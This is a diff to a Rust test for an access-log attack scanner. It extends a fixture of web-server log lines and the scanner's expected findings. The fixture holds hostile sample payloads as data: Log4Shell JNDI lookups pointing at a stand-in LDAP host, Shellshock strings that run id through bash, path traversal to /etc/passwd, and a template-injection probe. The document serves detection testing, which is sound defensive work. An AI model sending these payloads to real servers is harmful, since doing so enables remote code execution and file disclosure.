@@ -173,7 +173,8 @@ fn access_logs_referer_and_user_agent() {
     let log = b"203.0.113.9 - - [10/Oct/2026:13:55:36 +0000] \"GET /a HTTP/1.1\" 200 12 \"https://www.example.com/?q=${jndi:dns://198.51.100.7/a}\" \"${jndi:ldap://198.51.100.7:1389/a}\"\n\
 203.0.113.9 - - [10/Oct/2026:13:55:37 +0000] \"GET /cgi-bin/status HTTP/1.1\" 200 12 \"() { :;}; echo; /usr/bin/id\" \"() { :; }; /bin/bash -c id\"\n\
 203.0.113.9 - - [10/Oct/2026:13:55:38 +0000] \"GET /index.html HTTP/1.1\" 200 12 \"https://www.example.com/%2e%2e/etc/passwd\" \"Mozilla/5.0 (X11; Linux x86_64)\"\n\
-203.0.113.9 - - [10/Oct/2026:13:55:39 +0000] \"GET /%2e%2e/etc/passwd HTTP/1.1\" 404 - \"-\" \"Mozilla/5.0 {{7*7}}\"\n";
+203.0.113.9 - - [10/Oct/2026:13:55:39 +0000] \"GET /%2e%2e/etc/passwd HTTP/1.1\" 404 - \"-\" \"Mozilla/5.0 {{7*7}}\"\n\
+203.0.113.9 - - [10/Oct/2026:13:55:40 +0000] \"-\" 400 0 \"-\" \"${jndi:ldap://198.51.100.7/d}\"\n";
     let f = write(&d.join("access.log"), log);
     let out = scan().args(["scan", &f]).output().expect("run");
     assert_eq!(out.status.code(), Some(1));
@@ -186,13 +187,20 @@ fn access_logs_referer_and_user_agent() {
              {f}:2: high shellshock: Referer: () {{ :;}}; echo; /usr/bin/id\n\
              {f}:2: high shellshock: User-Agent: () {{ :; }}; /bin/bash -c id\n\
              {f}:4: high path-traversal,sensitive-file: /%2e%2e/etc/passwd\n\
-             {f}:4: medium template-injection: User-Agent: Mozilla/5.0 {{{{7*7}}}}\n"
+             {f}:4: medium template-injection: User-Agent: Mozilla/5.0 {{{{7*7}}}}\n\
+             {f}:5: high jndi-lookup: User-Agent: ${{jndi:ldap://198.51.100.7/d}}\n"
         )
     );
     let stderr = String::from_utf8(out.stderr).expect("utf-8");
-    assert!(stderr.contains("4 URLs analysed, 1 flagged"), "{stderr}");
     assert!(
-        stderr.contains("5 Referer and User-Agent headers flagged beside the request targets"),
+        stderr.contains(
+            "4 URLs analysed, 1 flagged (25.00%) and 6 Referer and User-Agent headers flagged at medium"
+        ),
+        "{stderr}"
+    );
+    // A scanner's line with no request line still has its headers read.
+    assert!(
+        stderr.contains("1 access-log line had no request line"),
         "{stderr}"
     );
     // JSON names the header; the spans point into its value.
@@ -202,7 +210,7 @@ fn access_logs_referer_and_user_agent() {
         .lines()
         .map(|l| serde_json::from_str(l).expect("json"))
         .collect();
-    assert_eq!(rows.len(), 6);
+    assert_eq!(rows.len(), 7);
     assert_eq!(rows[1]["header"], "User-Agent");
     assert_eq!(rows[1]["input"], "${jndi:ldap://198.51.100.7:1389/a}");
     assert_eq!(rows[1]["warnings"][0]["span"], serde_json::json!([0, 34]));
